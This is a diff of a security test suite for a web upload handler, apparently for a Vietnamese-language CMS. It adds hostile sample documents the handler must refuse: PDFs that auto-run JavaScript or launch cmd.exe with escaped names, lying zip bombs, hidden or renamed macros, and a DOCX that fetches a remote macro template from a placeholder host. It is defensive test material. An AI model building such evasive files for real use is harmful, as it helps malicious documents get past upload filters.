@@ -4,11 +4,11 @@ database; what is accepted is stored under a generated name and served with safe
 
 import io
 import struct
-import zipfile
 import zlib
 from pathlib import Path
 
 import pytest
+from filekit import lying_zip_bomb, office_file, pdf_file, pdf_with_object_stream, stream
 from PIL import Image
 from seckit import changed_tables, db_fingerprint, text_of, token
 
@@ -23,26 +23,9 @@ def image(fmt="PNG", size=(60, 40)):
     return buffer.getvalue()
 
 
-def pdf(body=b""):
-    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>"
-            b"endobj\n" + body + b"trailer<</Root 1 0 R>>\n%%EOF\n")
-
-
-def office(kind="docx", extra=None, entries=0):
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
-        archive.writestr("word/document.xml" if kind == "docx" else "xl/workbook.xml", "<x/>")
-        for name, data in (extra or {}).items():
-            archive.writestr(name, data)
-        for n in range(entries):
-            archive.writestr(f"word/media/p{n}.xml", "")
-    return buffer.getvalue()
-
-
-def zip_bomb(kind="docx"):
+def declared_zip_bomb(kind="docx"):
     """A DOCX/XLSX whose parts unpack to 200 MB each (as its directory says; what a bomb declares)."""
-    data = bytearray(office(kind, {"word/bomb.xml": b"0" * 1000}))
+    data = bytearray(office_file(kind, {"word/bomb.xml": b"0" * 1000}))
     central = data.rfind(b"PK\x01\x02")
     while central != -1:  # every central directory entry: uncompressed size at offset 24
         struct.pack_into("<I", data, central + 24, 200 * 1024 * 1024)
@@ -83,17 +66,17 @@ REFUSED = [
      "mã HTML hoặc mã lệnh", "mã HTML hoặc mã lệnh"),
     ("jpeg-comment-svg-polyglot", jpeg_with_comment(b"<svg onload=alert(1)>"), "anh.jpg",
      "mã HTML hoặc mã lệnh", "mã HTML hoặc mã lệnh"),
-    ("pdf-html-polyglot", pdf(b"<html><body>" + SCRIPT + b"</body></html>\n"), "bao-cao.pdf",
-     "không phải ảnh hợp lệ", "mã HTML hoặc mã lệnh"),
-    ("pdf-javascript", pdf(b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"), "bao-cao.pdf",
+    ("pdf-html-polyglot", pdf_file(objects=[stream(b"<html><body>" + SCRIPT + b"</body></html>")]),
+     "bao-cao.pdf", "không phải ảnh hợp lệ", "mã HTML hoặc mã lệnh"),
+    ("pdf-javascript", pdf_file(b"/OpenAction 4 0 R", objects=[b"<</S/JavaScript/JS(app.alert(1))>>"]),
+     "bao-cao.pdf", "không phải ảnh hợp lệ", "mã lệnh tự chạy"),
+    ("pdf-launch", pdf_file(b"/OpenAction 4 0 R", objects=[b"<</S/Launch/F(cmd.exe)>>"]), "bao-cao.pdf",
      "không phải ảnh hợp lệ", "mã lệnh tự chạy"),
-    ("pdf-launch", pdf(b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"), "bao-cao.pdf",
-     "không phải ảnh hợp lệ", "mã lệnh tự chạy"),
-    ("docx-macro", office("docx", {"word/vbaProject.bin": b"x"}), "bao-cao.docx", "không phải ảnh hợp lệ",
-     "macro"),
-    ("zip-bomb-docx", zip_bomb("docx"), "bom.docx", "không phải ảnh hợp lệ", "giải nén quá lớn"),
-    ("zip-bomb-xlsx", zip_bomb("xlsx"), "bom.xlsx", "không phải ảnh hợp lệ", "giải nén quá lớn"),
-    ("zip-many-entries", office("docx", entries=5001), "nhieu.docx", "không phải ảnh hợp lệ",
+    ("docx-macro", office_file("docx", {"word/vbaProject.bin": b"x"}), "bao-cao.docx",
+     "không phải ảnh hợp lệ", "macro"),
+    ("zip-bomb-docx", declared_zip_bomb("docx"), "bom.docx", "không phải ảnh hợp lệ", "giải nén quá lớn"),
+    ("zip-bomb-xlsx", declared_zip_bomb("xlsx"), "bom.xlsx", "không phải ảnh hợp lệ", "giải nén quá lớn"),
+    ("zip-many-entries", office_file("docx", entries=5001), "nhieu.docx", "không phải ảnh hợp lệ",
      "giải nén quá lớn"),
     ("decompression-bomb-png", huge_png(), "bom.png", "điểm ảnh quá lớn", "điểm ảnh quá lớn"),
     ("zero-byte", b"", "rong.png", "rỗng", "rỗng"),
@@ -178,11 +161,61 @@ def test_upload_visit_attachment_refuses(world, client_as, unchanged, data, name
     assert "Không nhận tệp" in page and message in page
 
 
+REMOTE_TEMPLATE = (  # Word fetches and runs a remote macro template: macros without a macro part
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    'attachedTemplate" Target="http://mau.example/bieu-mau.dotm" TargetMode="External"/></Relationships>')
+# (name, bytes, file name, message): documents a byte-pattern check lets through (names spelt with
+# escapes, objects compressed, actions in other places, sizes that lie, macros under other names).
+HOSTILE_DOCUMENTS = [
+    ("pdf-openaction-escaped-javascript", pdf_file(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
+     "bao-cao.pdf", "mã lệnh tự chạy"),
+    ("pdf-openaction-escaped-launch", pdf_file(b"/OpenAction<</S/L#61unch/F(cmd.exe)>>"), "bao-cao.pdf",
+     "mã lệnh tự chạy"),
+    ("pdf-annotation-aa-javascript", pdf_file(page=b"/Annots[4 0 R]", objects=[
+        b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/AA<</E 5 0 R>>>>",
+        b"<</S/#4A#61vaScript/#4A#53(app.alert(1))>>"]), "bao-cao.pdf", "mã lệnh tự chạy"),
+    ("pdf-javascript-in-object-stream", pdf_with_object_stream(
+        b"/OpenAction 4 0 R", [b"<</S/JavaScript/JS(app.alert(1))>>"]), "bao-cao.pdf", "mã lệnh tự chạy"),
+    ("pdf-xfa-form", pdf_file(b"/AcroForm<</Fields[]/XFA 4 0 R>>", objects=[stream(b"<xdp:xdp/>")]),
+     "bieu-mau.pdf", "mã lệnh tự chạy"),
+    ("pdf-embedded-file", pdf_file(b"/Names<</EmbeddedFiles<</Names[(bang-luong.exe) 4 0 R]>>>>", objects=[
+        b"<</Type/Filespec/F(bang-luong.exe)/EF<</F 5 0 R>>>>",
+        stream(b"MZ\x90\x00", b"/Type/EmbeddedFile")]), "bao-cao.pdf", "nhúng bên trong"),
+    ("pdf-file-attachment-annotation", pdf_file(page=b"/Annots[4 0 R]", objects=[
+        b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.txt)>>>>"]),
+     "bao-cao.pdf", "nhúng bên trong"),
+    ("pdf-unparsable", b"%PDF-1.7\n" + b"\x00khong phai pdf" * 20 + b"\n%%EOF\n", "bao-cao.pdf", "bị hỏng"),
+    ("docx-lying-zip-bomb", lying_zip_bomb("docx"), "bom.docx", "giải nén quá lớn"),
+    ("xlsx-lying-zip-bomb", lying_zip_bomb("xlsx"), "bom.xlsx", "giải nén quá lớn"),
+    ("docx-lying-zip-bomb-checksum-too", lying_zip_bomb(checksum_too=True), "bom.docx", "giải nén quá lớn"),
+    ("docx-vba-project-renamed", office_file("docx", {"word/styles2.bin": b"\xd0\xcf\x11\xe0"}, more_types=(
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')), "bao-cao.docx",
+     "macro"),
+    ("docm-type-with-character-reference", office_file(
+        "docx", main_type="application/vnd.ms-word.document.m&#x61;croEnabled.main+xml"), "bao-cao.docx",
+     "macro"),
+    ("xlsx-excel4-macro-sheet", office_file("xlsx", {"xl/macrosheets/sheet1.xml": "<macrosheet/>"}),
+     "so-lieu.xlsx", "macro"),
+    ("docx-remote-template", office_file("docx", {"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
+     "bao-cao.docx", "liên kết tới mẫu"),
+]
+
+
+@pytest.mark.parametrize(("data", "name", "message"), [r[1:] for r in HOSTILE_DOCUMENTS],
+                         ids=[r[0] for r in HOSTILE_DOCUMENTS])
+def test_upload_visit_attachment_refuses_hostile_document(world, client_as, unchanged, data, name, message):
+    response = _attachment_upload(client_as("field_a"), world, data, name)
+    assert response.status_code == 200
+    page = text_of(response)
+    assert "Không nhận tệp" in page and message in page
+
+
 def test_upload_oversized_refused(sec_app, world, client_as, unchanged):
     editor, field = client_as("editor"), client_as("field_a")
     too_big_image = image() + b"\x00" * (8 * 1024 * 1024)
     assert "Tệp quá lớn: tối đa 8 MB" in text_of(_media_upload(editor, too_big_image, "to.png"))
-    too_big_file = pdf(b"%" + b"0" * (10 * 1024 * 1024) + b"\n")
+    too_big_file = pdf_file(objects=[stream(b"0" * (10 * 1024 * 1024))])
     assert "Tệp quá lớn: tối đa 10 MB" in text_of(_attachment_upload(field, world, too_big_file, "to.pdf"))
     # Beyond the request limit the whole request is refused before any view reads it.
     response = editor.post("/admin/media/new/", content_type="multipart/form-data", data={
@@ -213,7 +246,7 @@ def test_upload_path_traversal_names_media(sec_app, client_as, name):
 def test_upload_path_traversal_names_attachment(sec_app, world, client_as, name):
     before = _files(sec_app)
     client = client_as("field_a")
-    assert "Đã tải lên" in text_of(_attachment_upload(client, world, pdf(), name))
+    assert "Đã tải lên" in text_of(_attachment_upload(client, world, pdf_file(), name))
     root = (Path(sec_app.config["CMS_DATA_DIR"]) / "uploads" / "visits").resolve()
     new = _files(sec_app) - before
     assert len(new) == 1 and root in next(iter(new)).resolve().parents
@@ -245,10 +278,10 @@ def test_upload_accepted_image_served_by_content_type(sec_app, client_as, fmt, n
 
 
 @pytest.mark.parametrize(("data", "name", "mimetype", "download"), [
-    (pdf(), "bao-cao.html", "application/pdf", ".pdf"),
-    (office("docx"), "bien-ban.exe",
+    (pdf_file(), "bao-cao.html", "application/pdf", ".pdf"),
+    (office_file("docx"), "bien-ban.exe",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ".docx"),
-    (office("xlsx"), "so-lieu.svg", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+    (office_file("xlsx"), "so-lieu.svg", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      ".xlsx"),
     (image("PNG"), "anh.html", "image/png", ".png"),
 ])
